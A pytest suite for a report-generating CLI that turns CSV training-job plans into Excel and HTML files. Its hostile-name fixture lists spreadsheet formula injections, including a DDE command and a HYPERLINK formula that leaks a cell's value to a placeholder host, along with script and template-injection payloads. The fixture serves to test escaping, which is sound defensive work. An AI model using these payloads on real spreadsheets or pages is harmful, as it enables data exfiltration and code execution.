"""The program as a user meets it: what it prints where, how it ends, what it leaves behind."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
import zipfile
from html import unescape
from io import StringIO
from pathlib import Path
from typing import Final, TypeAlias

import pytest
from python_calamine import CalamineWorkbook

import reportgen
from reportgen.files import data_folder

ROOT: Final = Path(reportgen.__file__).parents[1]
Outcome: TypeAlias = subprocess.CompletedProcess[str]

PLAN: Final = """\
job,model,parameters,optimizer,hardware,owner
30B pretraining,in-house 30B,30B,adamw,H100,research
13B with SGD,in-house 13B,13B,sgd,A100-80,product
"""

HOSTILE: Final = (
    "=1+1",
    '=HYPERLINK("http://x.invalid/?"&B2,"ok")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\uff1d1+1",
    "=======",
    "#N/A",
    "NA",
    "true",
    "05_base",
    "1-1-19",
    "MAR 3",
    "007",
    "1e5",
    "<script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "{{ 7*7 }}",
    "a\nb",
    "_x0041_",
    "\N{CLAPPER BOARD}" * 16,
    "e\u0301\u200d\u202eabc",
    "x" * 300,
)


def run(folder: Path, *arguments: str | Path, stdin: str = "", **environment: str) -> Outcome:
    """Run reportgen in a folder; whatever happens, nobody is shown a traceback."""
    clean = {name: value for name, value in os.environ.items() if name != "SOURCE_DATE_EPOCH"}
    done = subprocess.run(  # noqa: S603 - our own program
        [sys.executable, "-m", "reportgen", *map(str, arguments)],
        cwd=folder,
        env=clean | {"PYTHONPATH": str(ROOT), "PYTHONIOENCODING": "utf-8", "COLUMNS": "120"} | environment,
        input=stdin,
        capture_output=True,
        check=False,
        encoding="utf-8",
    )
    assert "Traceback" not in done.stderr, done.stderr
    return done


def contents(folder: Path) -> dict[str, bytes]:
    """Return every file under a folder with its bytes."""
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def edit(output: Path) -> None:
    """Change an output as somebody may who opens it: a remark in the page, a part more in the workbook."""
    if output.suffix == ".html":
        output.write_bytes(output.read_bytes() + b"a remark")
    else:
        with zipfile.ZipFile(output, "a") as archive:
            archive.writestr("xl/comments/remark.xml", "<remark/>")


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A folder with a plan."""
    (tmp_path / "plan.csv").write_text(PLAN, encoding="utf-8")
    return tmp_path


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a plan and its outputs, which no test may change."""
    folder = tmp_path_factory.mktemp("built")
    (folder / "plan.csv").write_text(PLAN, encoding="utf-8")
    assert run(folder, "build", "plan.csv", "--date", "2026-01-31").returncode == 0
    return folder


# --- build -------------------------------------------------------------------------------------------------------


def test_build_writes_both_files_and_says_so_on_stderr(folder: Path) -> None:
    done = run(folder, "build", "plan.csv", "-o", "out")
    assert (done.returncode, done.stdout) == (0, "")
    assert done.stderr.splitlines() == ["wrote out/plan.xlsx (2 jobs)", "wrote out/plan.html (2 jobs)"]
    assert sorted(contents(folder)) == ["out/plan.html", "out/plan.xlsx", "plan.csv"]


def test_build_replaces_its_own_output_and_is_silent_when_asked(folder: Path) -> None:
    for title in ("one", "two"):
        done = run(folder, "build", "plan.csv", "--quiet", "--title", title)
        assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
        assert f"<title>{title}</title>" in (folder / "plan.html").read_text(encoding="utf-8")


def test_one_plan_and_one_day_give_the_same_bytes_in_any_folder(folder: Path) -> None:
    run(folder, "build", "plan.csv", "-o", "one", SOURCE_DATE_EPOCH="1769860800")
    run(folder, "build", "plan.csv", "-o", "two/deep", "--date", "2026-01-31", SOURCE_DATE_EPOCH="0")
    assert contents(folder / "one") == contents(folder / "two" / "deep")
    assert len(contents(folder / "one")) == 2


def test_an_edited_output_is_replaced_only_with_force(built: Path, tmp_path: Path) -> None:
    for name in ("plan.html", "plan.xlsx"):
        for path, content in contents(built).items():
            (tmp_path / path).write_bytes(content)
        edit(tmp_path / name)
        before = contents(tmp_path)
        refused = run(tmp_path, "build", "plan.csv")
        assert (refused.returncode, refused.stdout) == (1, "")
        assert refused.stderr == f"{name}: has been edited since reportgen wrote it; --force replaces it\n"
        assert contents(tmp_path) == before
    assert run(tmp_path, "build", "plan.csv", "--force", "--date", "2026-01-31").returncode == 0
    assert contents(tmp_path) == contents(built)


REFUSED: Final = {
    "an unknown optimizer": (
        {"plan.csv": PLAN.replace("adamw", "adamq")},
        r"plan\.csv:2: optimizer: found 'adamq', .*nearest: .*adam.*",
    ),
    "a negative count": (
        {"plan.csv": PLAN.replace("13B,sgd", "-13B,sgd")},
        r"plan\.csv:3: parameters: found '-13B'; expected a whole number at least 1 and at most 25,000,000,000,000",
    ),
    "80 GBB": (
        {"plan.csv": PLAN, "hardware.csv": "hardware,label_memory\nA100-80,80 GB\nH100,80 GBB\n"},
        r"hardware\.csv:3: label_memory: found '80 GBB'; expected a memory such as 80 GB.*",
    ),
    "a missing column": (
        {"plan.csv": PLAN.replace(",hardware", ",hardwear")},
        r"plan\.csv:1: hardware: found no such column \(nearest: hardwear\); expected .*",
    ),
}


@pytest.mark.parametrize("fault", REFUSED)
def test_a_fault_is_one_clear_line_and_changes_no_file(built: Path, tmp_path: Path, fault: str) -> None:
    files, line = REFUSED[fault]
    for name, content in (contents(built) | {name: text.encode() for name, text in files.items()}).items():
        (tmp_path / name).write_bytes(content)
    catalogues = ["--hardware", "hardware.csv"] if "hardware.csv" in files else []
    before = contents(tmp_path)
    done = run(tmp_path, "build", "plan.csv", *catalogues)
    assert (done.returncode, done.stdout) == (1, "")
    assert re.fullmatch(line + "\n", done.stderr), done.stderr
    assert contents(tmp_path) == before


def test_all_problems_of_an_input_are_listed_in_one_go(tmp_path: Path) -> None:
    (tmp_path / "plan.csv").write_text(PLAN.replace("adamw", "x").replace("13B,sgd", "13Q,y").replace("A100-80", "z"))
    (tmp_path / "hardware.csv").write_text("hardware,label_memory\nH100,80 GBB\nH100,0 GB\n")
    for command in ("check", "build"):
        done = run(tmp_path, command, "plan.csv", "--hardware", "hardware.csv")
        places = {found.partition(": found")[0] for found in done.stderr.splitlines()}
        assert done.returncode == 1
        assert places >= {
            "hardware.csv:2: label_memory",
            "hardware.csv:3: hardware",
            "hardware.csv:3: label_memory",
            "plan.csv:2: optimizer",
            "plan.csv:3: hardware",
            "plan.csv:3: optimizer",
            "plan.csv:3: parameters",
        }
    assert sorted(contents(tmp_path)) == ["hardware.csv", "plan.csv"]


def test_a_plan_of_hostile_names_is_built_with_every_name_as_it_is(tmp_path: Path) -> None:
    with (tmp_path / "plan.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(("job", "model", "parameters", "hardware", "owner", "=1+2"))
        writer.writerows((name, name, "7B", "H100", name, name) for name in HOSTILE)
    done = run(tmp_path, "build", "plan.csv", "--title", HOSTILE[0] + HOSTILE[16])
    assert done.returncode == 0, done.stderr
    page = (tmp_path / "plan.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    rows = CalamineWorkbook.from_path(tmp_path / "plan.xlsx").get_sheet_by_name("Plan").to_python()
    header = next(row for row in rows if str(row[0]).startswith("job"))
    start = rows.index(header) + 1
    for column in ("job", "model", "owner", "=1+2"):
        place = header.index(column)
        assert tuple(row[place] for row in rows[start : start + len(HOSTILE)]) == HOSTILE


@pytest.mark.parametrize("name", ["日本 a'b <b>&.csv", "no ending"])
def test_a_plan_may_have_any_file_name(folder: Path, name: str) -> None:
    (folder / "plan.csv").rename(folder / name)
    done = run(folder, "build", name, "-o", "out", "--quiet")
    assert (done.returncode, done.stderr) == (0, "")
    stem = Path(name).stem
    assert sorted(contents(folder / "out")) == [f"{stem}.html", f"{stem}.xlsx"]
    assert "<b>&" not in (folder / "out" / f"{stem}.html").read_text(encoding="utf-8")


def test_the_output_folder_may_not_be_a_file(folder: Path) -> None:
    before = contents(folder)
    done = run(folder, "build", "plan.csv", "-o", "plan.csv")
    assert done.returncode == 1
    assert done.stderr.startswith("plan.csv/plan.xlsx: ")
    assert contents(folder) == before


@pytest.mark.parametrize("template", ["{{ absent }}", "{% if %}"])
def test_a_fault_in_a_template_of_the_users_own_is_said(folder: Path, template: str) -> None:
    (folder / "templates").mkdir()
    (folder / "templates" / "page.html").write_text(template)
    done = run(folder, "build", "plan.csv", "--templates", "templates")
    assert done.returncode == 1
    assert "page.html" in done.stderr
    assert not (folder / "plan.html").exists()


def test_a_folder_of_templates_that_is_not_there_is_said(folder: Path) -> None:
    done = run(folder, "build", "plan.csv", "--templates", "nowhere")
    assert done.returncode in {1, 2}
    assert "nowhere" in done.stderr


def test_a_title_that_a_workbook_cannot_hold_is_refused(folder: Path) -> None:
    done = run(folder, "build", "plan.csv", "--title", "a bell \x07")
    assert done.returncode in {1, 2}
    assert "U+0007" in done.stderr
    assert sorted(contents(folder)) == ["plan.csv"]


@pytest.mark.parametrize("epoch", ["yesterday", "99999999999999"])
def test_a_source_date_that_is_none_is_said(folder: Path, epoch: str) -> None:
    done = run(folder, "build", "plan.csv", SOURCE_DATE_EPOCH=epoch)
    assert done.returncode == 1
    assert done.stderr.startswith(f"SOURCE_DATE_EPOCH: found '{epoch}', expected ")


# --- check, table, explain ---------------------------------------------------------------------------------------


def test_check_says_that_all_is_well_and_writes_nothing(built: Path) -> None:
    before = contents(built)
    done = run(built, "check", "plan.csv")
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "plan.csv: 2 jobs, no problem\n")
    assert contents(built) == before


def test_table_prints_csv_with_a_row_a_job(built: Path) -> None:
    done = run(built, "table", "plan.csv")
    assert (done.returncode, done.stderr) == (0, "")
    first, second = csv.DictReader(StringIO(done.stdout))
    assert first["training_footprint_bytes"] == "480000000000"
    assert second["job"] == "13B with SGD"
    assert second["hours"] == ""


def test_table_prints_json_with_full_numbers_and_null(built: Path) -> None:
    first, second = json.loads(run(built, "table", "plan.csv", "--format", "json").stdout)
    assert first["training_footprint_gib"] == 447.0348358154297
    assert first["cards_needed"] == 6
    assert first["hours"] is None
    assert list(first) == list(second)


def test_table_prints_the_columns_that_are_asked_for_in_their_order(built: Path) -> None:
    done = run(built, "table", "plan.csv", "--columns", "cards_needed,job")
    assert done.stdout == "cards_needed,job\n6,30B pretraining\n2,13B with SGD\n"


def test_table_leads_a_formula_with_an_apostrophe(folder: Path) -> None:
    names = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "plain")
    (folder / "plan.csv").write_text("job,parameters,hardware\n" + "".join(f"{name},7B,H100\n" for name in names))
    done = run(folder, "table", "plan.csv", "--columns", "job")
    assert done.stdout.splitlines()[1:] == ["'=1+1", "'+1+1", "'-1+1", "'@SUM(1)", "plain"]


def test_a_plan_is_read_from_standard_input(tmp_path: Path) -> None:
    done = run(tmp_path, "table", "-", "--columns", "job", stdin=PLAN)
    assert done.stdout.splitlines() == ["job", "30B pretraining", "13B with SGD"]
    wrong = run(tmp_path, "check", "-", stdin=PLAN.replace("30B,adamw", "x,adamw"))
    assert wrong.returncode == 1
    assert "stdin:2: parameters: found 'x'" in wrong.stderr


def test_explain_prints_each_figure_as_arithmetic(built: Path) -> None:
    done = run(built, "explain", "plan.csv", "30B pretraining")
    assert (done.returncode, done.stderr) == (0, "")
    assert "    = 30,000,000,000 parameters × 2 bytes/parameter\n" in done.stdout
    assert "    = 480,000,000,000 bytes = 480 GB = 447 GiB\n" in done.stdout
    assert "13B" not in done.stdout


def test_explain_names_the_nearest_job(built: Path) -> None:
    done = run(built, "explain", "plan.csv", "30B pretrainin")
    assert (done.returncode, done.stdout) == (1, "")
    assert re.fullmatch(r"plan\.csv: job: found '30B pretrainin'; expected .*30B pretraining.*\n", done.stderr)


# --- catalog, columns, init --------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["models", "assumptions"])
def test_catalog_prints_the_shipped_csv(tmp_path: Path, name: str) -> None:
    done = run(tmp_path, "catalog", name)
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout == (data_folder("inputs") / f"{name}.csv").read_text(encoding="utf-8")


def test_columns_prints_a_row_a_column(tmp_path: Path) -> None:
    done = run(tmp_path, "columns")
    assert (done.returncode, done.stderr) == (0, "")
    header, _, *rows = done.stdout.splitlines()
    assert header == "| column | unit | meaning | formula | source |"
    assert any(row.startswith("| cards_exact | card | ") and "label_bytes" in row for row in rows)
    assert {len(re.findall(r"(?<!\\)\|", row)) for row in rows} == {6}


def test_columns_can_be_piped_on_a_machine_of_another_encoding(tmp_path: Path) -> None:
    done = run(tmp_path, "columns", PYTHONIOENCODING="cp1252")
    assert done.returncode == 0


def test_init_makes_a_folder_that_builds_and_refuses_to_do_it_twice(tmp_path: Path) -> None:
    done = run(tmp_path, "init", "new")
    assert (done.returncode, done.stdout) == (0, "")
    made = sorted(contents(tmp_path / "new"))
    assert made == sorted(["plan.xlsx", *(path.name for path in data_folder("inputs").iterdir())])
    assert [line.removeprefix("wrote new/") for line in done.stderr.splitlines()] == made
    options = [
        text
        for name in made
        if name not in ("plan.csv", "plan.xlsx", "grid.toml")
        for text in (f"--{Path(name).stem.replace('_', '-')}", name)
    ]
    tables = [run(tmp_path / "new", "table", plan) for plan in ("plan.csv", "plan.xlsx")]
    assert [table.returncode for table in tables] == [0, 0]
    assert tables[0].stdout == tables[1].stdout != ""
    assert run(tmp_path / "new", "build", "plan.csv", *options).returncode == 0
    before = contents(tmp_path)
    again = run(tmp_path, "init", "new")
    assert (again.returncode, again.stdout) == (1, "")
    assert re.fullmatch(r"new/\w+\.csv: is there already; .*\n", again.stderr)
    assert contents(tmp_path) == before


# --- usage -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "arguments",
    [
        ["bogus"],
        ["build"],
        ["build", "plan.csv", "--date", "2026-02-30"],
        ["table", "plan.csv", "--columns", "job,bogus"],
        ["catalog", "bogus"],
    ],
    ids=" ".join,
)
def test_a_wrong_call_ends_with_2_and_prints_on_stderr(built: Path, arguments: list[str]) -> None:
    done = run(built, *arguments)
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr


@pytest.mark.parametrize(
    ("plan", "message"),
    [("absent.csv", "No such file or directory"), (".", "Is a directory")],
)
def test_a_plan_that_cannot_be_read_ends_with_1(built: Path, plan: str, message: str) -> None:
    done = run(built, "check", plan)
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr.startswith(plan)
    assert message in done.stderr
    assert len(done.stderr.splitlines()) == 1


@pytest.mark.parametrize(
    ("arguments", "environment", "shown"),
    [
        (["--help"], {}, "build"),
        (["--version"], {}, reportgen.__version__),
        (["catalog", "hardware"], {}, "H100"),
        ([], {"_REPORTGEN_COMPLETE": "complete_zsh", "_TYPER_COMPLETE_ARGS": "reportgen ver"}, "verify"),
    ],
)
def test_what_should_answer_at_once_loads_nothing_heavy(
    tmp_path: Path, arguments: list[str], environment: dict[str, str], shown: str
) -> None:
    script = (
        "import atexit, sys; from reportgen.cli import main; sys.argv = ['reportgen', *sys.argv[1:]]\n"
        "heavy = {'numpy', 'openpyxl', 'jinja2'}\n"
        "atexit.register(lambda: print(heavy & set(sys.modules), file=sys.stderr))\n"
        "main()"
    )
    done = subprocess.run(  # noqa: S603 - our own program
        [sys.executable, "-c", script, *arguments],
        cwd=tmp_path,
        env=os.environ | {"PYTHONPATH": str(ROOT)} | environment,
        capture_output=True,
        check=True,
        encoding="utf-8",
    )
    assert done.stderr == "set()\n"
    assert shown in done.stdout


# --- doubts ------------------------------------------------------------------------------------------------------


def test_a_doubt_is_said_on_stderr_on_the_checks_and_on_the_page(tmp_path: Path) -> None:
    (tmp_path / "plan.csv").write_text("model,parameters,hardware\nQwen-27B,15.2B,H100\n")
    done = run(tmp_path, "build", "plan.csv")
    (doubt,) = [line for line in done.stderr.splitlines() if ": warning: " in line]
    assert "15,200,000,000 for 'Qwen-27B'" in doubt
    assert done.returncode == 0
    checks = CalamineWorkbook.from_path(tmp_path / "plan.xlsx").get_sheet_by_name("Checks").to_python()
    assert doubt in [cell for row in checks for cell in row]
    assert doubt in unescape((tmp_path / "plan.html").read_text(encoding="utf-8"))
